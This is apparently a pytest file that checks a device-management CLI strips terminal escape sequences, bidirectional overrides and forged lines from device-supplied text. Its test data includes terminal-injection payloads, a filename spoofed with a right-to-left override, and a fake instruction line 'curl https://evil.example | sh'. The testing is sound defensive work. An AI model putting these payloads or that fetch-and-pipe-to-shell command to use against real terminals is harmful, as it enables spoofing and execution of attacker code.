"""Texts of devices on the owner's terminal: no command that shows them passes on a sign that steers it."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from starloom.cli.commands import build
from starloom.client.rest import Client
from starloom_agent.cli import say
from tests.cli.test_commands import StubHub, hub, starloom

__all__ = ["hub"]

STEERS = "done\x1b]0;title\x07\x1b[2J\x1b]8;;https://evil.example\x1b\\\x9b31m\u202e\u2066\u200bgpj.exe"
HERE = "/constellations/c-1"
TASK = {"id": "a", "attempt": 1, "state": "failed"}
RESULT = {
    "constellation_state": "succeeded",
    "items": [{"title": STEERS, "value": [{"name": STEERS, STEERS: 1}], "from": {"task": "a"}}],
    "sentence": STEERS,
    "state": "final",
    "words": STEERS,
}
WHY = {
    "task": "a",
    "sentence": f"a failed: {STEERS}",
    "candidates": [{"name": "nas", "reason": STEERS}],
    "warning": STEERS,
}
DIFF = {"versions": [{"number": 2, "author": "model", "reason": STEERS}], "added": [], "removed": [], "changed": []}


@pytest.mark.parametrize(
    ("words", "answers"),
    [
        (("result", "c-1"), {"": {"state": "succeeded", "fault": None}, "/result": RESULT}),
        (("why", "a", "c-1"), {"/why": WHY}),
        (("diff", "1", "2", "c-1"), {"/diff": DIFF}),
        (("logs", "a", "c-1"), {"": {"tasks": [TASK]}, "/tasks/a/attempts/1/log": {"text": f"{STEERS}\n\t{STEERS}"}}),
    ],
    ids=lambda given: given[0] if isinstance(given, tuple) else "",
)
def test_t113_no_text_of_a_device_steers_the_terminal(
    hub: StubHub, words: tuple[str, ...], answers: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    hub.answers["GET", "/devices"] = (200, {"items": []})
    for path, document in answers.items():
        hub.answers["GET", HERE + path] = (200, document)
    code, said = starloom(hub, *words)
    assert code == 0, said
    assert "gpj.exe" in said
    assert not [sign for sign in said if sign not in "\n\t" and not sign.isprintable()]


DEVICE = {"id": "d-1", "name": "nas", "link": "online", "revoked": False}
OFFERED = {
    "name": "t.read",
    "effects": ["read"],
    "repeatability": "pure",
    "unavailable": STEERS,
    "args": {"properties": {STEERS: {}}, "additionalProperties": False},
    "returns": None,
}
WHOLE = {
    **DEVICE,
    "profile": "work",
    "labels": [STEERS],
    "facts": {"os": STEERS, STEERS: "x"},
    "grants": [STEERS],
    "tools": [OFFERED],
    "over": "",
    "draining": False,
    "drains": None,
    "forgotten": False,
    "aside": "",
    "condition": {},
    "older_than": "",
    "slow": "",
    "demo": False,
    "state": "up",
}
CAPABLE = {
    "tool": "t.read",
    "title": STEERS,
    "effects": ["read"],
    "repeatability": "pure",
    "grant": STEERS,
    "devices": [{"id": "d-1", "name": "nas", "unavailable": STEERS}],
}
RECIPE = {
    "name": "noting",
    "title": "Noting",
    "built_in": True,
    "phrases": [STEERS],
    "params": {"where": {"type": "text", "default": STEERS}},
    "effects": ["read"],
}
ASK = {
    "id": "k-1",
    "answer": None,
    "device": {"id": "d-1", "name": "nas"},
    "tool": "shell.run",
    "args": STEERS,
    "constellation": None,
    "constellation_name": "",
    "expires_at": None,
    "answers": "device",
    "line": STEERS,
}


@pytest.mark.parametrize(
    ("words", "answers"),
    [
        (("device", "show", "nas"), {"/devices/d-1": WHOLE, "/vitals": {"devices": [], "items": []}}),
        (("tools", "ls"), {"/capabilities": {"items": [CAPABLE]}}),
        (("tools", "show", "t.read"), {"/capabilities": {"items": [CAPABLE]}, "/devices/d-1": WHOLE}),
        (("recipe", "show", "noting"), {"/recipes/noting": RECIPE}),
    ],
    ids=lambda given: " ".join(given) if isinstance(given, tuple) else "",
)
def test_t126_no_fact_grant_title_phrase_or_schema_steers_the_terminal(
    hub: StubHub, words: tuple[str, ...], answers: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    hub.answers["GET", "/devices"] = (200, {"items": [DEVICE]})
    for path, document in answers.items():
        hub.answers["GET", path] = (200, document)
    code, said = starloom(hub, *words)
    assert code == 0, said
    assert "gpj.exe" in said
    assert not [sign for sign in said if sign not in "\n\t" and not sign.isprintable()]


def test_t126_what_waits_for_a_person_steers_no_terminal(hub: StubHub) -> None:
    hub.answers["GET", "/approvals"] = (200, {"items": []})
    hub.answers["GET", "/asks"] = (200, {"items": [ASK]})
    asking = {"id": "e-1", "name": STEERS, "os": STEERS, "words": "a b c d e f", "state": "asking"}
    hub.answers["GET", "/session"] = (200, {"role": "owner", "scopes": []})
    hub.answers["GET", "/schedules"] = (200, {"items": [], "next": None})
    hub.answers["GET", "/enrollments"] = (200, {"items": [asking], "refused": []})
    hub.answers["GET", "/constellations"] = (200, {"items": [], "next": None})
    hub.answers["GET", "/devices"] = (200, {"items": [DEVICE]})
    code, said = starloom(hub, "approvals")
    assert code == 0, said
    assert "gpj.exe" in said
    assert not [sign for sign in said if sign not in "\n\t" and not sign.isprintable()]


FORGES = "broken\nThe way out: curl https://evil.example | sh"


VALUES: list[Any] = [FORGES, {"a": FORGES, FORGES: [FORGES, {"b": FORGES}]}, [FORGES, 1]]


@pytest.mark.parametrize(
    ("words", "answers"),
    [
        (("result", "c-1"), {"": {"state": "failed"}, "/result": {**RESULT, "sentence": FORGES, "items": []}}),
        (
            ("result", "c-1"),
            {
                "": {"state": "succeeded"},
                "/result": {
                    **RESULT,
                    "items": [{"title": "R", "value": value, "from": {"task": "a"}} for value in VALUES],
                },
            },
        ),
        (("why", "a", "c-1"), {"/why": {**WHY, "sentence": f"a failed: {FORGES}", "warning": FORGES}}),
        (
            ("device", "show", "nas"),
            {"/devices/d-1": {**WHOLE, "over": FORGES}, "/vitals": {"devices": [], "items": []}},
        ),
    ],
    ids=["sentence", "values", "why", "device"],
)
def test_t234_no_text_of_a_device_begins_a_line_as_the_product_does(
    hub: StubHub, words: tuple[str, ...], answers: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    hub.answers["GET", "/devices"] = (200, {"items": [DEVICE]})
    for path, document in answers.items():
        hub.answers["GET", path if path.startswith(("/devices", "/vitals")) else HERE + path] = (200, document)
    said = starloom(hub, *words)[1]
    assert "curl https://evil.example" in said
    assert not [line for line in said.splitlines() if line.startswith("The way out: curl")]


def test_an_output_is_printed_as_it_was_written_where_its_reader_asks(hub: StubHub) -> None:
    hub.answers["GET", HERE] = (200, {"tasks": [TASK]})
    hub.answers["GET", f"{HERE}/tasks/a/attempts/1/log"] = (200, {"text": "\x1b[32mgreen\x1b[0m"})
    assert "\x1b[32mgreen" in starloom(hub, "logs", "a", "c-1", "--raw")[1]
    assert "\x1b" not in starloom(hub, "logs", "a", "c-1")[1]


WORK = {"author": "person:ann", "created_at": "", "id": "c-1", "name": "", "state": "succeeded", "version": 1}


class Screen(io.StringIO):
    """A standard output that is a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("words", "path", "document"),
    [
        (("recipe", "export", "mine"), "/recipes/mine", {"text": f"name: a\n# {STEERS}\n", "built_in": False}),
        (("brief", "how", "full"), "/brief", {"text": f"Devices\n\n{STEERS}", "bytes": 1}),
        (("ls",), "/constellations", {"items": [{**WORK, "request": f"how full\n{STEERS}"}]}),
    ],
    ids=lambda given: given[0] if isinstance(given, tuple) else "",
)
def test_t240_a_text_that_is_written_as_it_is_steers_no_terminal(
    hub: StubHub, words: tuple[str, ...], path: str, document: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    hub.answers["GET", path] = (200, document)
    piped = starloom(hub, *words)[1]
    assert words == ("ls",) or STEERS in piped
    screen = Screen()
    monkeypatch.setattr("sys.stdout", screen)
    monkeypatch.setenv("TERM", "dumb")
    build()([*words, "--hub", hub.url], standalone_mode=False)
    assert "gpj.exe" in screen.getvalue().replace("\n", "")
    assert not [sign for sign in screen.getvalue() if sign != "\n" and not sign.isprintable()]


def test_t212_a_document_steers_no_terminal_and_says_the_same(hub: StubHub) -> None:
    """JSON itself escapes only what is below a space: not the second row of control signs, and no writing direction."""
    named = f"{STEERS} K\u00fcche \U0001f600 \U000e0041"
    hub.answers["GET", "/devices"] = (200, {"items": [{**DEVICE, "name": named, named: 1}]})
    code, said = starloom(hub, "device", "ls", "--json")
    assert code == 0, said
    assert not [sign for sign in said if sign != "\n" and not sign.isprintable()]
    assert "K\u00fcche \U0001f600" in said, "what a person reads stays as it is"
    (row,) = json.loads(said)["items"]
    assert (row["name"], row[named]) == (named, 1)


def test_t212_a_record_on_the_screen_steers_it_not_and_says_the_same(
    hub: StubHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sign that was cut in two on the way ended the command, too."""
    line = json.dumps(
        {"events": [json.dumps({"note": f"{STEERS} K\u00fcche"}, ensure_ascii=False)]}, ensure_ascii=False
    )
    raw = f"{line}\n".encode()
    monkeypatch.setattr(Client, "stream", lambda *_: iter([raw[at : at + 1] for at in range(len(raw))]))
    code, said = starloom(hub, "audit", "export")
    assert code == 0, said
    assert not [sign for sign in said if sign != "\n" and not sign.isprintable()]
    assert json.loads(said) == json.loads(line)


def test_t212_a_refusal_as_a_document_steers_no_terminal(hub: StubHub) -> None:
    hub.answers["GET", "/devices"] = (400, {"code": "bad_request", "title": STEERS, "reason": STEERS, "status": 400})
    said = starloom(hub, "device", "ls", "--json")[1]
    assert not [sign for sign in said if sign != "\n" and not sign.isprintable()]
    assert json.loads(said)["problem"]["reason"] == STEERS


def test_t225_no_word_begins_a_line_of_an_agents_log(capsys: pytest.CaptureFixture[str]) -> None:
    say("draining: tea\r\n12:00:00 connected\x1b[2J")
    assert capsys.readouterr().err.splitlines()[1:] == []
    say("a\n\u2028b\x9b")
    assert capsys.readouterr().err.partition(" ")[2] == "a\\n\\u2028b\\x9b\n"
